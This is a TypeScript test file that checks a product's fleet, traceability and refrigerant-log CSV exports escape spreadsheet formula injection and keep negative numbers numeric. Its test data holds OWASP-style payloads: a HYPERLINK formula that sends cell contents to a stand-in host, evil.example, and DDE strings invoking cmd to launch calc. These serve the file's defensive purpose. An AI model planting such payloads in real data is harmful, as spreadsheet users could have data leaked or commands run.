// Every CSV the product exports escapes text a spreadsheet would run as a formula (OWASP "CSV Injection"), and
// writes numbers, negative ones included, as numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { createApp } from '../../server/app';
import { events, unitStats, users } from '../../server/db/schema';
import { openTestDb, resetDb } from '../support/db';
import { createTestUnit, signInAs } from '../support/factories';
import { createTestSite, halyardNumber } from '../support/units';
import { recordVisits } from '../support/visits';

const { db, pool } = openTestDb();
const now = new Date('2026-06-01T12:00:00Z');
const { app, ctx } = createApp({ db, clock: { now: () => now }, rateLimits: { signInPerIp: 1000 } });

// One of each character OWASP lists, as a person (or an attacker) could type them.
const SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const CYLINDER = "+SUM(1+1)*cmd|' /C calc'!A0";
const TECHNICIAN = "@SUM(1+1)*cmd|' /C calc'!A0";
const CERTIFICATE = "-2+3+cmd|' /C calc'!A0";
const TAB_SITE = '\t=1+1';
const CR_CYLINDER = '\r=1+1';

type Agent = Awaited<ReturnType<typeof signInAs>>['agent'];
let engineer: Agent;
let evilUnit = 0;
let tabUnit = 0;
let topUpId = 0;
let crTopUpId = 0;

beforeAll(async () => {
  await resetDb(db);
  const tech = await signInAs(app, db, 'technician');
  await db.update(users).set({ name: TECHNICIAN, certificateNumber: CERTIFICATE }).where(eq(users.id, tech.user.id));
  engineer = (await signInAs(app, db, 'engineer')).agent;
  const site = await createTestSite(db, { name: SITE });
  const tabSite = await createTestSite(db, { name: TAB_SITE });
  evilUnit = (await createTestUnit(db, { containerNumber: halyardNumber(820001), siteId: site.id })).id;
  tabUnit = (await createTestUnit(db, { containerNumber: halyardNumber(820002), siteId: tabSite.id })).id;
  [[topUpId]] = await recordVisits(tech.agent, evilUnit, [
    { at: '2026-03-01T08:00:00Z', events: [{ kind: 'top_up', kg: 0.5, cylinder: CYLINDER }] },
  ]);
  [[crTopUpId]] = await recordVisits(tech.agent, tabUnit, [
    { at: '2026-03-02T08:00:00Z', events: [{ kind: 'top_up', kg: 0.25, cylinder: CR_CYLINDER }] },
  ]);
  // The form trims a cylinder number, so a leading carriage return comes only from an old row, as does a negative
  // figure; both are put straight into the database.
  await db.update(events).set({ cylinder: CR_CYLINDER }).where(eq(events.id, crTopUpId));
  await db.update(events).set({ kg: -25 }).where(eq(events.id, topUpId));
  await engineer.get('/api/fleet');
  await db.update(unitStats).set({ rollingLeakRatePct: -25 }).where(eq(unitStats.unitId, evilUnit));
});
afterAll(async () => {
  await ctx.jobs.waitForAll();
  await pool.end();
});

async function download(path: string) {
  const res = await engineer.get(path).buffer(true);
  expect(res.status, res.text).toBe(200);
  expect(res.headers['content-type']).toMatch(/text\/csv/);
  const text = res.text.replace(/^\uFEFF/, '');
  return {
    text,
    rows: parse(text, { columns: true, relax_column_count: true, comment: '#' }) as Record<string, string>[],
  };
}

describe('GET /api/fleet/export.csv', () => {
  it('escapes a site name starting with = or a tab and keeps a negative leak rate a number', async () => {
    const { text, rows } = await download('/api/fleet/export.csv?sort=containerNumber&dir=asc');
    const evil = rows.find((r) => r['Container number'] === halyardNumber(820001))!;
    expect(evil.Site).toBe(`'${SITE}`);
    expect(evil['Rolling leak rate (%)']).toBe('-25');
    expect(rows.find((r) => r['Container number'] === halyardNumber(820002))!.Site).toBe(`'${TAB_SITE}`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).toMatch(/,-25,/);
  });
});

describe('GET /api/traceability/export.csv', () => {
  it('escapes a cylinder starting with + or a carriage return, a site starting with = and a name starting with @', async () => {
    const { text, rows } = await download('/api/traceability/export.csv?cylinder=%2BSUM');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'Cylinder or lot': `'${CYLINDER}`,
      Site: `'${SITE}`,
      'Recorded by': `'${TECHNICIAN}`,
      kg: '-25',
      'Event id': String(topUpId),
    });
    expect(text).toMatch(/,-25,/);
    const bySite = await download(
      `/api/traceability/export.csv?siteId=${await siteOf(tabUnit)}&from=2026-03-01&to=2026-03-31`,
    );
    expect(bySite.rows.map((r) => r['Cylinder or lot'])).toEqual([`'${CR_CYLINDER}`]);
    expect(bySite.rows[0].Site).toBe(`'${TAB_SITE}`);
  });
});

describe('GET /api/refrigerant-log/export.csv', () => {
  it('escapes the site, cylinder, technician and certificate number and keeps negative kg and t CO2e numbers', async () => {
    const { text, rows } = await download('/api/refrigerant-log/export.csv?from=2026-01-01&to=2026-05-31');
    const entry = rows.find((r) => r['Event id'] === String(topUpId))!;
    expect(entry).toMatchObject({
      Site: `'${SITE}`,
      'Cylinder or lot': `'${CYLINDER}`,
      Technician: `'${TECHNICIAN}`,
      'Certificate number': `'${CERTIFICATE}`,
      kg: '-25',
    });
    // The engine refuses a negative mass, so that row's t CO2e is left empty rather than failing the log.
    expect(entry['t CO2e']).toBe('');
    expect(rows.find((r) => r['Event id'] === String(crTopUpId))!['Cylinder or lot']).toBe(`'${CR_CYLINDER}`);
    expect(text).toMatch(/,-25,/);
    expect(text.split('\n').some((line) => /(^|,)"?[=+@]/.test(line))).toBe(false);
  });
});

async function siteOf(unitId: number): Promise<number> {
  const [e] = await db.select({ siteId: events.siteId }).from(events).where(eq(events.unitId, unitId));
  return e.siteId!;
}
